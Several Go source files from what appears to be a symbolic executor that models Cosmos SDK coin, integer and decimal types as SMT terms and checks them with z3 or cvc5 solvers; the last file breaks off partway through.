		if *tier == "thorough" {
			*timeout = 300000
		}
	}
	os.Setenv("GOFLAGS", "-mod=mod")
	os.Setenv("GOPROXY", "off")
	os.Setenv("GOSUMDB", "off")
	os.Setenv("GOTOOLCHAIN", "local")
	env := &Env{Repo: *repo, Verif: *verif, Tier: *tier, Workers: *workers, Solver: *solver, TimeoutMs: *timeout, Dump: *dump, Only: *only, NoReplay: *noReplay}
	switch {
	case *replay != "":
		os.Exit(env.ReplayFile(*replay))
	case *selftest:
		os.Exit(env.Selftest())
	case *mapRange != "":
		P, err := gosym.Load(*repo, *verif+"/harness", strings.Split(*mapRange, ","))
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(2)
		}
		for _, l := range P.MapRanges() {
			fmt.Println(l)
		}
		os.Exit(0)
	case *property != "":
		os.Exit(env.RunProperty(*property))
	case *fn != "":
		pm := map[string]string{}
		for _, p := range params {
			kv := strings.SplitN(p, "=", 2)
			pm[kv[0]] = kv[1]
		}
		t0 := time.Now()
		P, err := gosym.Load(*repo, *verif+"/harness", []string{"./" + *pkg})
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(2)
		}
		fmt.Printf("loaded in %.1fs\n", time.Since(t0).Seconds())
		r, err := gosym.NewRun(P, gosym.HaqqMod+"/"+*pkg, *fn, pm)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(2)
		}
		r.Workers, r.SolverKind, r.TimeoutMs, r.DumpDir = *workers, *solver, *timeout, *dump
		r.Explore()
		fmt.Print(r.Summary())
	default:
		flag.Usage()
		os.Exit(2)
	}
}
