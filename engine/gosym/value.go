// Package gosym is a path-forking symbolic executor over go/ssa that encodes
// symbolic machine integers / big integers / fixed point decimals as SMT Int
// terms and asks an SMT solver (z3, cvc5) for verdicts.
package gosym

import (
	"fmt"
	"go/types"
	"math/big"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// Value is any interpreter value.
//
//	concrete: bool, *big.Int (all integer kinds), string, float64
//	symbolic: *Sym (Int or Bool sorted SMT term)
//	aggregate: *StructV, *ArrayV, Tuple
//	reference: *Ptr, *SliceV, *MapV, *FuncV, *IfaceV
//	theories: *BigV (math/big.Int contents), IntV (sdk Int), DecV (sdk Dec),
//	          *CoinsV, TimeV, *BlobV, SymStr, *ErrV
type Value interface{}

type Sort int

const (
	SInt Sort = iota
	SBool
)

// Sym is a symbolic scalar. [Lo, Hi] (nil = unknown) is a conservative interval
// maintained by the arithmetic constructors; it lets the executor skip overflow
// side conditions that cannot fire.
type Sym struct {
	S      Sort
	T      string
	Lo, Hi *big.Int
	// byte of an integer written by encoding/binary (lets Uint64(PutUint64(v)) fold back to v)
	PartOf    string
	PartShift int
}

type StructV struct {
	T      types.Type // named or struct type (for printing / method lookup)
	Fields []Value
}

type ArrayV struct {
	Elems []Value
}

type Tuple []Value

// Cell is an addressable memory location.
type Cell struct {
	V    Value
	Name string
	id   int
}

// Ptr addresses a cell or a sub-object of the aggregate stored in it.
type Ptr struct {
	C    *Cell
	Path []int
}

type SliceV struct {
	Arr           *Cell // holds *ArrayV ; nil for a nil slice
	Off, Len, Cap int
}

type mapEntry struct {
	K, V Value
}

type MapV struct {
	M    map[string]*mapEntry
	Keys []string // insertion order (iteration is done in sorted key order)
	id   int
}

type FuncV struct {
	Fn       *ssa.Function
	Bindings []Value
	// bound method closures produced by the engine itself
	Native func(it *Interp, args []Value) Value
	Name   string
}

type IfaceV struct {
	T types.Type // dynamic type
	V Value
}

// theory values ------------------------------------------------------------

// BigV is the content of a math/big.Int object (stored in a cell; *big.Int is a Ptr to it).
type BigV struct{ V Value }

// IntV models cosmossdk.io/math.Int (struct{ i *big.Int }). Nil models the zero value (i == nil).
type IntV struct {
	V   Value
	Nil bool
	// box is the identity of the underlying *big.Int: copies of an Int share it (as they share the pointer in Go). It only
	// matters once BigIntMut / NewIntFromBigIntMut hand the pointer out: from then on the value is read through box.mut.
	box *intBox
}

type intBox struct{ mut *Ptr }

func nIntV(v Value) IntV { return IntV{V: v, box: &intBox{}} }

// UintV models cosmossdk.io/math.Uint.
type UintV struct {
	V   Value
	Nil bool
}

// DecV models cosmossdk.io/math.LegacyDec; V is the value scaled by 10^18.
type DecV struct {
	V   Value
	Nil bool
}

// CoinsV models sdk.Coins as a vector over a finite denomination universe (absent == 0).
type CoinsV struct {
	Amt map[string]Value
	// mat is the []Coin this value was turned into when the program indexed / ranged over it: from then on the program may
	// write through the slice (coins[i].Amount = x), so the list is the source of truth and every reader goes through it.
	mat *SliceV
}

// DecCoinsV models sdk.DecCoins likewise (values scaled by 10^18).
type DecCoinsV struct {
	Amt map[string]Value
}

// TimeV models time.Time as nanoseconds since the Unix epoch (UTC).
// TimeV models time.Time as nanoseconds since the epoch. Local marks a value whose location is the process-local zone
// (time.Unix / UnixMilli / Local()): its calendar fields depend on the node's time zone, which is an environment input.
type TimeV struct {
	NS    Value
	Local bool
}

// BlobV is a typed opaque byte string: the encoding of exactly one theory value.
type BlobV struct {
	Kind string
	V    Value
}

// SymStr is the decimal rendering of a (possibly symbolic) integer.
type SymStr struct{ V Value }

// ErrV is an error value created by the error intrinsics. Root identifies the sentinel.
type ErrV struct {
	Root string
	Msg  string
}

// PoisonV marks a value the engine could not compute during best-effort package init.
type PoisonV struct{ Why string }

// helpers --------------------------------------------------------------------

func bigOf(i int64) *big.Int { return big.NewInt(i) }

func isConcreteInt(v Value) (*big.Int, bool) {
	b, ok := v.(*big.Int)
	return b, ok
}

func copyVal(v Value) Value {
	switch x := v.(type) {
	case *StructV:
		n := &StructV{T: x.T, Fields: make([]Value, len(x.Fields))}
		for i, f := range x.Fields {
			n.Fields[i] = copyVal(f)
		}
		return n
	case *ArrayV:
		n := &ArrayV{Elems: make([]Value, len(x.Elems))}
		for i, f := range x.Elems {
			n.Elems[i] = copyVal(f)
		}
		return n
	case *BigV:
		return &BigV{V: x.V}
	case Tuple:
		n := make(Tuple, len(x))
		for i, f := range x {
			n[i] = copyVal(f)
		}
		return n
	}
	return v
}

func (p *Ptr) String() string {
	if p == nil {
		return "nil"
	}
	return fmt.Sprintf("&%s%v", p.C.Name, p.Path)
}

func ptrEq(a, b *Ptr) bool {
	if a == nil || b == nil {
		return a == nil && b == nil
	}
	if a.C != b.C || len(a.Path) != len(b.Path) {
		return false
	}
	for i := range a.Path {
		if a.Path[i] != b.Path[i] {
			return false
		}
	}
	return true
}

// keyString gives a canonical string for a concrete map key / comparable value.
func keyString(v Value) string {
	switch x := v.(type) {
	case nil:
		return "nil"
	case bool:
		if x {
			return "t"
		}
		return "f"
	case *big.Int:
		return "i" + x.String()
	case string:
		return "s" + x
	case float64:
		return fmt.Sprintf("F%v", x)
	case *StructV:
		var sb strings.Builder
		sb.WriteString("{")
		for _, f := range x.Fields {
			sb.WriteString(keyString(f))
			sb.WriteString(",")
		}
		sb.WriteString("}")
		return sb.String()
	case *ArrayV:
		var sb strings.Builder
		sb.WriteString("[")
		for _, f := range x.Elems {
			sb.WriteString(keyString(f))
			sb.WriteString(",")
		}
		sb.WriteString("]")
		return sb.String()
	case *Ptr:
		if x == nil {
			return "pnil"
		}
		return fmt.Sprintf("p%d%v", x.C.id, x.Path)
	case *IfaceV:
		if x == nil {
			return "inil"
		}
		return "I" + x.T.String() + ":" + keyString(x.V)
	case *ErrV:
		if x == nil {
			return "enil"
		}
		return "E" + x.Root + ":" + x.Msg
	case *MapV:
		if x == nil {
			return "mnil"
		}
		return fmt.Sprintf("m%d", x.id)
	case *FuncV:
		if x == nil {
			return "fnil"
		}
		return fmt.Sprintf("fn%p", x)
	case *Sym:
		panic(unsupported("symbolic value used as map key / in concrete comparison: " + x.T))
	case IntV:
		if x.box != nil && x.box.mut != nil {
			panic(unsupported("math.Int aliased through BigIntMut used as key"))
		}
		if b, ok := x.V.(*big.Int); ok {
			return "Int" + b.String()
		}
		panic(unsupported("symbolic Int as key"))
	case TimeV:
		if b, ok := x.NS.(*big.Int); ok {
			return "T" + b.String()
		}
		panic(unsupported("symbolic time as key"))
	case *SliceV:
		if x.Arr == nil {
			return "snil"
		}
		return fmt.Sprintf("sl%d:%d:%d", x.Arr.id, x.Off, x.Len)
	}
	panic(unsupported(fmt.Sprintf("keyString of %T", v)))
}

func sortedKeys(m map[string]Value) []string {
	ks := make([]string, 0, len(m))
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}

// Unsupported is raised (as a Go panic) when the executor meets something it
// cannot model. It is never converted into a verdict: the run is inconclusive.
type Unsupported struct {
	Msg   string
	Stack []string
}

func (u *Unsupported) Error() string { return "unsupported: " + u.Msg }

func unsupported(msg string) *Unsupported { return &Unsupported{Msg: msg} }

// GoPanic is a Go-level panic travelling through interpreted frames.
type GoPanic struct {
	V     Value
	Msg   string
	Where string
}

// pathEnd terminates the current path (assume-false, violation recorded, bound exceeded).
type pathEnd struct{ why string }
