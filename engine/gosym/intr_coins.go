package gosym

import (
	"fmt"
	"go/types"
	"math/big"
	"sort"
)

func isCoinsType(t types.Type) bool {
	return namedIs(types.Unalias(t), sdkPkg, "Coins")
}

func amtOf(c *CoinsV, d string) Value {
	if v, ok := c.Amt[d]; ok {
		return v
	}
	return big.NewInt(0)
}

func unionDenoms(cs ...*CoinsV) []string {
	m := map[string]bool{}
	for _, c := range cs {
		for d := range c.Amt {
			m[d] = true
		}
	}
	out := make([]string, 0, len(m))
	for d := range m {
		out = append(out, d)
	}
	sort.Strings(out)
	return out
}

// coinFields extracts (denom, amount) from a Coin struct value.
func (it *Interp) coinFields(v Value) (string, Value) {
	it.checkPoison(v)
	s, ok := v.(*StructV)
	if !ok {
		panic(unsupported(fmt.Sprintf("expected sdk.Coin, got %T", v)))
	}
	d, ok := s.Fields[0].(string)
	if !ok {
		panic(unsupported("symbolic denom"))
	}
	a := s.Fields[1].(IntV)
	if a.Nil {
		panic(&GoPanic{Msg: "nil coin amount"})
	}
	return d, it.intVal(a)
}

func (it *Interp) mkCoin(t types.Type, d string, a Value) *StructV {
	return &StructV{T: t, Fields: []Value{d, nIntV(a)}}
}

// toCoins converts a Coins value of either representation to the vector theory.
func (it *Interp) toCoins(v Value) *CoinsV {
	it.checkPoison(v)
	switch x := v.(type) {
	case *CoinsV:
		if x.mat != nil {
			return it.toCoins(x.mat)
		}
		return x
	case *SliceV:
		c := &CoinsV{Amt: map[string]Value{}}
		if x.Len == 0 {
			return c
		}
		prev := ""
		for i, e := range x.Arr.V.(*ArrayV).Elems[x.Off : x.Off+x.Len] {
			d, a := it.coinFields(e)
			if i > 0 && d <= prev {
				panic(unsupported("unsorted or duplicate denoms in literal Coins " + d))
			}
			prev = d
			c.Amt[d] = a
		}
		return c
	}
	panic(unsupported(fmt.Sprintf("expected sdk.Coins, got %T at %s", v, it.where())))
}

// rawCoinList returns denominations and amounts of a literal coin list ([]Coin built by the program, possibly malformed).
func (it *Interp) rawCoinList(v Value) ([]string, []Value, bool) {
	s, ok := v.(*SliceV)
	if !ok {
		return nil, nil, false
	}
	if s.Len == 0 {
		return nil, nil, true
	}
	var dens []string
	var amts []Value
	for _, e := range s.Arr.V.(*ArrayV).Elems[s.Off : s.Off+s.Len] {
		d, a := it.coinFields(e)
		dens = append(dens, d)
		amts = append(amts, a)
	}
	return dens, amts, true
}

func sortedUnique(dens []string) bool {
	for i := 1; i < len(dens); i++ {
		if dens[i] <= dens[i-1] {
			return false
		}
	}
	return true
}

// rawFind mirrors sdk.Coins.Find (binary search that assumes sorted input) on an arbitrary list; -1 if not found.
func rawFind(dens []string, d string) int {
	lo, hi := 0, len(dens)
	for {
		n := hi - lo
		switch n {
		case 0:
			return -1
		case 1:
			if dens[lo] == d {
				return lo
			}
			return -1
		}
		mid := lo + n/2
		switch {
		case d < dens[mid]:
			hi = mid
		case d == dens[mid]:
			return mid
		default:
			lo = mid + 1
		}
	}
}

var coinType types.Type

func (it *Interp) coinT() types.Type {
	if coinType == nil {
		p := it.P.Pkgs[sdkPkg]
		coinType = p.Type("Coin").Type()
	}
	return coinType
}

// materialiseCoins turns the vector into a concrete-length []Coin by deciding which amounts are zero.
func (it *Interp) materialiseCoins(c *CoinsV) *SliceV {
	if c.mat != nil {
		return c.mat
	}
	c.mat = it.materialiseCoins0(c)
	return c.mat
}

func (it *Interp) materialiseCoins0(c *CoinsV) *SliceV {
	var elems []Value
	for _, d := range sortedKeys(c.Amt) {
		a := c.Amt[d]
		if it.branchOn(mkCmp("=", a, big.NewInt(0))) {
			continue
		}
		elems = append(elems, it.mkCoin(it.coinT(), d, a))
	}
	if len(elems) == 0 {
		return &SliceV{Arr: it.newCell(&ArrayV{}, "coins"), Len: 0, Cap: 0}
	}
	return &SliceV{Arr: it.newCell(&ArrayV{Elems: elems}, "coins"), Len: len(elems), Cap: len(elems)}
}

func (it *Interp) materialiseDecCoins(c *DecCoinsV) *SliceV {
	panic(unsupported("materialise DecCoins"))
}

func mapCoins(x, y *CoinsV, f func(a, b Value) Value) *CoinsV {
	r := &CoinsV{Amt: map[string]Value{}}
	for _, d := range unionDenoms(x, y) {
		r.Amt[d] = f(amtOf(x, d), amtOf(y, d))
	}
	return r
}

func allDen(x, y *CoinsV, f func(a, b Value) Value) Value {
	var cs []Value
	for _, d := range unionDenoms(x, y) {
		cs = append(cs, f(amtOf(x, d), amtOf(y, d)))
	}
	return mkAnd(cs...)
}

func anyDen(x, y *CoinsV, f func(a, b Value) Value) Value {
	var cs []Value
	for _, d := range unionDenoms(x, y) {
		cs = append(cs, f(amtOf(x, d), amtOf(y, d)))
	}
	return mkOr(cs...)
}

var zero0 = big.NewInt(0)

func coinsEmpty(x *CoinsV) Value {
	var cs []Value
	for _, d := range sortedKeys(x.Amt) {
		cs = append(cs, mkCmp("=", x.Amt[d], zero0))
	}
	return mkAnd(cs...)
}

func coinsAnyNeg(x *CoinsV) Value {
	var cs []Value
	for _, d := range sortedKeys(x.Amt) {
		cs = append(cs, mkCmp("<", x.Amt[d], zero0))
	}
	return mkOr(cs...)
}

func (it *Interp) nameCoins(c *CoinsV) *CoinsV {
	for d, v := range c.Amt {
		c.Amt[d] = it.nameVal(v)
	}
	return c
}

func registerCoins(P *Program) {
	const S = sdkPkg + "."
	const C = "(" + sdkPkg + ".Coins)."
	// variadic ...Coin arrives as a slice
	P.reg(S+"NewCoins", func(it *Interp, a []Value) Value {
		s := it.asSlice(a[0])
		c := &CoinsV{Amt: map[string]Value{}}
		if s.Len == 0 {
			return c
		}
		for _, e := range s.Arr.V.(*ArrayV).Elems[s.Off : s.Off+s.Len] {
			d, amt := it.coinFields(e)
			if _, dup := c.Amt[d]; dup {
				// duplicate denoms: the real NewCoins panics unless one of them is zero (zero coins are removed first)
				prev := c.Amt[d]
				it.panicIf(mkAnd(mkCmp("!=", prev, zero0), mkCmp("!=", amt, zero0)), "invalid coin set: duplicate denomination "+d)
				c.Amt[d] = mkAdd(prev, amt)
				continue
			}
			c.Amt[d] = amt
		}
		it.panicIf(coinsAnyNeg(c), "invalid coin set: negative amount")
		return c
	})
	P.reg(C+"Add", func(it *Interp, a []Value) Value {
		x, y := it.toCoins(a[0]), it.toCoins(a[1])
		r := mapCoins(x, y, mkAdd)
		for d, v := range r.Amt {
			r.Amt[d] = it.overflowCheck(it.nameVal(v), maxInt256, 256, "Int overflow")
		}
		return r
	})
	sub := func(it *Interp, a []Value) *CoinsV {
		x, y := it.toCoins(a[0]), it.toCoins(a[1])
		// SafeSub calls NewCoins(coinsB...) which panics on invalid (negative) subtrahend
		it.panicIf(coinsAnyNeg(y), "invalid coin set: negative amount")
		r := mapCoins(x, y, mkSub)
		return it.nameCoins(r)
	}
	P.reg(C+"Sub", func(it *Interp, a []Value) Value {
		r := sub(it, a)
		it.panicIf(coinsAnyNeg(r), "negative coin amount")
		for d, v := range r.Amt {
			if s, ok := v.(*Sym); ok {
				r.Amt[d] = withRange(s, zero0, nil)
			}
		}
		return r
	})
	P.reg(C+"SafeSub", func(it *Interp, a []Value) Value {
		r := sub(it, a)
		return Tuple{r, coinsAnyNeg(r)}
	})
	P.reg(C+"Min", func(it *Interp, a []Value) Value {
		return it.nameCoins(mapCoins(it.toCoins(a[0]), it.toCoins(a[1]), mkMin))
	})
	P.reg(C+"Max", func(it *Interp, a []Value) Value {
		return it.nameCoins(mapCoins(it.toCoins(a[0]), it.toCoins(a[1]), mkMax))
	})
	// comparison predicates, written out from types/coin.go (v0.47.x) over non-negative vectors
	isAllGTE := func(x, y *CoinsV) Value { // x.IsAllGTE(y)
		// len(y)==0 -> true ; len(x)==0 -> false ; all d in y: y[d] <= x[d]
		return allDen(x, y, func(a, b Value) Value { return mkOr(mkCmp("=", b, zero0), mkCmp("<=", b, a)) })
	}
	isAllGT := func(x, y *CoinsV) Value { // x.IsAllGT(y)
		// len(x)==0 -> false; len(y)==0 -> true; denoms(y) subset denoms(x); all d in y: x[d] > y[d]
		return mkAnd(mkNot(coinsEmpty(x)),
			allDen(x, y, func(a, b Value) Value { return mkOr(mkCmp("=", b, zero0), mkAnd(mkCmp("!=", a, zero0), mkCmp(">", a, b))) }))
	}
	P.reg(C+"IsAllGTE", func(it *Interp, a []Value) Value { return isAllGTE(it.toCoins(a[0]), it.toCoins(a[1])) })
	P.reg(C+"IsAllLTE", func(it *Interp, a []Value) Value { return isAllGTE(it.toCoins(a[1]), it.toCoins(a[0])) })
	P.reg(C+"IsAllGT", func(it *Interp, a []Value) Value { return isAllGT(it.toCoins(a[0]), it.toCoins(a[1])) })
	P.reg(C+"IsAllLT", func(it *Interp, a []Value) Value { return isAllGT(it.toCoins(a[1]), it.toCoins(a[0])) })
	P.reg(C+"IsAnyGT", func(it *Interp, a []Value) Value {
		x, y := it.toCoins(a[0]), it.toCoins(a[1])
		return anyDen(x, y, func(p, q Value) Value {
			return mkAnd(mkCmp("!=", p, zero0), mkCmp(">", p, q), mkCmp("!=", q, zero0))
		})
	})
	P.reg(C+"IsAnyGTE", func(it *Interp, a []Value) Value {
		x, y := it.toCoins(a[0]), it.toCoins(a[1])
		return anyDen(x, y, func(p, q Value) Value {
			return mkAnd(mkCmp("!=", p, zero0), mkCmp(">=", p, q), mkCmp("!=", q, zero0))
		})
	})
	P.reg(C+"DenomsSubsetOf", func(it *Interp, a []Value) Value {
		x, y := it.toCoins(a[0]), it.toCoins(a[1])
		return allDen(x, y, func(p, q Value) Value { return mkOr(mkCmp("=", p, zero0), mkCmp("!=", q, zero0)) })
	})
	P.reg(C+"IsZero", func(it *Interp, a []Value) Value {
		if _, amts, raw := it.rawCoinList(a[0]); raw {
			var cs []Value
			for _, v := range amts {
				cs = append(cs, mkCmp("=", v, zero0))
			}
			return mkAnd(cs...)
		}
		return coinsEmpty(it.toCoins(a[0]))
	})
	P.reg(C+"Empty", func(it *Interp, a []Value) Value {
		if s, ok := a[0].(*SliceV); ok {
			return s.Len == 0
		}
		return coinsEmpty(it.toCoins(a[0]))
	})
	P.reg(C+"IsEqual", func(it *Interp, a []Value) Value {
		return allDen(it.toCoins(a[0]), it.toCoins(a[1]), func(p, q Value) Value { return mkCmp("=", p, q) })
	})
	amountOf := func(it *Interp, a []Value) Value {
		d, ok := a[1].(string)
		if !ok {
			panic(unsupported("symbolic denom in AmountOf"))
		}
		if dens, amts, raw := it.rawCoinList(a[0]); raw && !sortedUnique(dens) {
			// a malformed literal list: follow the SDK's binary search (Coins.Find) literally
			if i := rawFind(dens, d); i >= 0 {
				return nIntV(amts[i])
			}
			return nIntV(zero0)
		}
		return nIntV(amtOf(it.toCoins(a[0]), d))
	}
	P.reg(C+"AmountOf", amountOf)
	P.reg(C+"AmountOfNoDenomValidation", amountOf)
	P.reg(C+"Find", func(it *Interp, a []Value) Value {
		d := a[1].(string)
		x := it.toCoins(a[0])
		v := amtOf(x, d)
		if it.branchOn(mkCmp("=", v, zero0)) {
			return Tuple{false, it.mkCoin(it.coinT(), "", zero0)}
		}
		return Tuple{true, it.mkCoin(it.coinT(), d, v)}
	})
	// validity: a theory value is canonical (zero == absent), so it is valid iff nothing is negative; a literal list is
	// valid iff every listed amount is strictly positive, denominations are valid, sorted and unique (types/coin.go Validate)
	valid := func(it *Interp, v Value) Value {
		if s, ok := v.(*SliceV); ok {
			if s.Len == 0 {
				return true
			}
			var cs []Value
			prev := ""
			for i, e := range s.Arr.V.(*ArrayV).Elems[s.Off : s.Off+s.Len] {
				d, amt := it.coinFields(e)
				if !validDenom(d) || (i > 0 && d <= prev) {
					return false
				}
				prev = d
				cs = append(cs, mkCmp(">", amt, zero0))
			}
			return mkAnd(cs...)
		}
		return mkNot(coinsAnyNeg(it.toCoins(v)))
	}
	P.reg(C+"IsValid", func(it *Interp, a []Value) Value { return valid(it, a[0]) })
	P.reg(C+"Validate", func(it *Interp, a []Value) Value {
		if !it.branchOn(valid(it, a[0])) {
			return &ErrV{Root: "coins/invalid", Msg: "invalid coins"}
		}
		return (*ErrV)(nil)
	})
	P.reg(C+"IsAllPositive", func(it *Interp, a []Value) Value {
		if _, amts, raw := it.rawCoinList(a[0]); raw {
			// literal list: non-empty and every listed amount strictly positive (a listed zero is not dropped)
			if len(amts) == 0 {
				return false
			}
			var cs []Value
			for _, v := range amts {
				cs = append(cs, mkCmp(">", v, zero0))
			}
			return mkAnd(cs...)
		}
		x := it.toCoins(a[0])
		return mkAnd(mkNot(coinsEmpty(x)), mkNot(coinsAnyNeg(x)))
	})
	P.reg(C+"IsAnyNegative", func(it *Interp, a []Value) Value {
		if _, amts, raw := it.rawCoinList(a[0]); raw {
			var cs []Value
			for _, v := range amts {
				cs = append(cs, mkCmp("<", v, zero0))
			}
			return mkOr(cs...)
		}
		return coinsAnyNeg(it.toCoins(a[0]))
	})
	P.reg(C+"IsAnyNil", func(it *Interp, a []Value) Value { return false })
	P.reg(C+"Sort", func(it *Interp, a []Value) Value { return a[0] })
	P.reg(C+"String", func(it *Interp, a []Value) Value { return symStrMark + "coins" })
	P.reg(C+"MulInt", func(it *Interp, a []Value) Value {
		x := it.toCoins(a[0])
		m := it.intArg(a[1])
		it.panicIf(mkCmp("=", m, zero0), "multiplying by zero is an invalid operation on coins")
		r := &CoinsV{Amt: map[string]Value{}}
		for d, v := range x.Amt {
			r.Amt[d] = it.overflowCheck(it.nameVal(mkMul(v, m)), maxInt256, 256, "Int overflow")
		}
		return r
	})
	P.reg(C+"QuoInt", func(it *Interp, a []Value) Value {
		x := it.toCoins(a[0])
		m := it.intArg(a[1])
		it.panicIf(mkCmp("=", m, zero0), "dividing by zero is an invalid operation on coins")
		r := &CoinsV{Amt: map[string]Value{}}
		for d, v := range x.Amt {
			r.Amt[d] = it.nameVal(mkQuoT(v, m))
		}
		return r
	})
	P.reg(S+"ValidateDenom", func(it *Interp, a []Value) Value {
		d, ok := a[0].(string)
		if !ok {
			panic(unsupported("symbolic denom"))
		}
		if !validDenom(d) {
			return &ErrV{Root: "sdk/invalid-denom", Msg: "invalid denom: " + d}
		}
		return (*ErrV)(nil)
	})
	P.reg(S+"mustValidateDenom", func(it *Interp, a []Value) Value {
		if d, ok := a[0].(string); ok && !validDenom(d) {
			panic(&GoPanic{Msg: "invalid denom: " + d})
		}
		return nil
	})
}

func validDenom(d string) bool {
	if len(d) < 3 || len(d) > 128 {
		return false
	}
	c := d[0]
	if !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z') {
		return false
	}
	for i := 1; i < len(d); i++ {
		c := d[i]
		ok := c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '/' || c == ':' || c == '.' || c == '_' || c == '-'
		if !ok {
			return false
		}
	}
	return true
}

// ---------------------------------------------------------------- DecCoins (vector of 10^18-scaled amounts)

func (it *Interp) toDecCoins(v Value) *DecCoinsV {
	it.checkPoison(v)
	switch x := v.(type) {
	case *DecCoinsV:
		return x
	case *SliceV:
		c := &DecCoinsV{Amt: map[string]Value{}}
		if x.Len == 0 {
			return c
		}
		for _, e := range x.Arr.V.(*ArrayV).Elems[x.Off : x.Off+x.Len] {
			s := e.(*StructV)
			d := s.Fields[0].(string)
			c.Amt[d] = mkAdd(decAmt(c, d), s.Fields[1].(DecV).V)
		}
		return c
	}
	panic(unsupported(fmt.Sprintf("expected sdk.DecCoins, got %T at %s", v, it.where())))
}

func decAmt(c *DecCoinsV, d string) Value {
	if v, ok := c.Amt[d]; ok {
		return v
	}
	return big.NewInt(0)
}

func registerDecCoins(P *Program) {
	const S = sdkPkg + "."
	const C = "(" + sdkPkg + ".DecCoins)."
	P.reg(S+"NewDecCoinsFromCoins", func(it *Interp, a []Value) Value {
		x := it.toCoins(a[0])
		r := &DecCoinsV{Amt: map[string]Value{}}
		for d, v := range x.Amt {
			r.Amt[d] = mkMul(v, pow10_18)
		}
		return r
	})
	P.reg(C+"Add", func(it *Interp, a []Value) Value {
		x, y := it.toDecCoins(a[0]), it.toDecCoins(a[1])
		r := &DecCoinsV{Amt: map[string]Value{}}
		for d, v := range x.Amt {
			r.Amt[d] = v
		}
		for d, v := range y.Amt {
			r.Amt[d] = it.overflowCheck(it.nameVal(mkAdd(decAmt(r, d), v)), maxDec315, 315, "Int overflow")
		}
		return r
	})
	P.reg(C+"AmountOf", func(it *Interp, a []Value) Value { return DecV{V: decAmt(it.toDecCoins(a[0]), a[1].(string))} })
	P.reg(C+"IsZero", func(it *Interp, a []Value) Value {
		x := it.toDecCoins(a[0])
		var cs []Value
		for _, d := range sortedKeys(x.Amt) {
			cs = append(cs, mkCmp("=", x.Amt[d], zero0))
		}
		return mkAnd(cs...)
	})
	P.reg(C+"String", func(it *Interp, a []Value) Value { return symStrMark + "deccoins" })
	P.reg("zzverif.AnyDecCoins", func(it *Interp, a []Value) Value {
		tag := tagOf(a[0])
		bits := int(asBig(a[1]).Int64())
		r := &DecCoinsV{Amt: map[string]Value{}}
		for _, d := range strSlice(it, a[2]) {
			r.Amt[d] = it.anyRange(tag+"."+d, big.NewInt(0), new(big.Int).Sub(pow2(bits), big.NewInt(1)), "dec")
		}
		return r
	})
	P.reg("zzverif.ObserveDecCoins", func(it *Interp, a []Value) Value {
		x := it.toDecCoins(a[1])
		for _, d := range sortedKeys(x.Amt) {
			it.observe(tagOf(a[0])+"."+d, x.Amt[d])
		}
		return nil
	})
}
