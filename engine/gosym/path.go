package gosym

import (
	"fmt"
	"math/big"
	"regexp"
	"strings"
)

// ---------------------------------------------------------------- solver script

func (it *Interp) emit(cmd string) { it.script = append(it.script, cmd) }

func (it *Interp) flush() {
	if it.solver == nil {
		panic(unsupported("solver needed during package init"))
	}
	if it.sent < len(it.script) {
		it.solver.Send(strings.Join(it.script[it.sent:], "\n") + "\n")
		it.sent = len(it.script)
	}
}

func (it *Interp) assertPC(c Value) {
	if b, ok := c.(bool); ok {
		if !b {
			panic(&pathEnd{why: "infeasible"})
		}
		return
	}
	it.emit("(assert " + T(c) + ")")
}

var identRe = regexp.MustCompile(`[^A-Za-z0-9_.\[\]:#-]`)

func (it *Interp) freshName(prefix string) string {
	it.symSeq++
	return fmt.Sprintf("%s!%d", identRe.ReplaceAllString(prefix, "_"), it.symSeq)
}

// declare introduces a symbolic constant for an Any* harness input.
// nextTag numbers repeated uses of a tag (tag, tag#1, tag#2, ...), identically in every mode.
func (it *Interp) nextTag(tag string) string {
	n := it.tagSeen[tag]
	it.tagSeen[tag] = n + 1
	if n > 0 {
		tag = fmt.Sprintf("%s#%d", tag, n)
	}
	return tag
}

// pinned: in concrete re-execution mode every harness input has the value of the counterexample model.
func (it *Interp) pinned(tag string) (string, bool) {
	if it.R.Pinned == nil {
		return "", false
	}
	v, ok := it.R.Pinned[tag]
	if !ok {
		v = "0"
	}
	return v, true
}

func (it *Interp) declareAny(tag string, sort Sort, kind string) *Sym {
	tag = it.nextTag(tag)
	name := "|" + identRe.ReplaceAllString(tag, "_") + "|"
	s := "Int"
	if sort == SBool {
		s = "Bool"
	}
	it.emit("(declare-const " + name + " " + s + ")")
	it.anySyms = append(it.anySyms, anySym{Tag: tag, Name: name, Sort: sort, Kind: kind})
	return &Sym{S: sort, T: name}
}

// nameTerm binds a large term to a fresh defined constant so that terms stay small.
func (it *Interp) nameTerm(s *Sym) *Sym {
	if len(s.T) < 160 {
		return s
	}
	name := it.freshName("t")
	srt := "Int"
	if s.S == SBool {
		srt = "Bool"
	}
	it.emit("(define-fun " + name + " () " + srt + " " + s.T + ")")
	return &Sym{S: s.S, T: name, Lo: s.Lo, Hi: s.Hi}
}

func (it *Interp) nameVal(v Value) Value {
	if s, ok := v.(*Sym); ok {
		return it.nameTerm(s)
	}
	return v
}

// feasible asks whether pc ∧ c is satisfiable ("unknown" counts as feasible).
func (it *Interp) feasible(c Value) bool {
	if b, ok := c.(bool); ok {
		return b
	}
	it.flush()
	it.solver.SetTimeout(it.R.FeasTimeoutMs)
	it.solver.Send("(push 1)\n(assert " + T(c) + ")\n")
	r := it.solver.CheckSat()
	it.solver.Send("(pop 1)\n")
	it.solver.SetTimeout(it.R.TimeoutMs)
	it.R.countQuery(r)
	if strings.HasPrefix(r, "error") {
		panic(unsupported("solver error: " + r))
	}
	if r == "unknown" {
		it.R.note("feasibility unknown (kept) at " + it.where())
	}
	return r != "unsat"
}

// ---------------------------------------------------------------- decisions

// nextDecision returns the recorded decision when replaying a prefix.
func (it *Interp) replaying() (int, bool) {
	if len(it.trace) < len(it.prefix) {
		return it.prefix[len(it.trace)], true
	}
	return 0, false
}

func (it *Interp) record(d int) { it.trace = append(it.trace, d) }

// branchOn forks on a symbolic boolean; returns the side taken by this path.
func (it *Interp) branchOn(c Value) bool {
	it.checkPoison(c)
	if b, ok := c.(bool); ok {
		return b
	}
	if it.initDepth > 0 {
		panic(unsupported("symbolic branch during init"))
	}
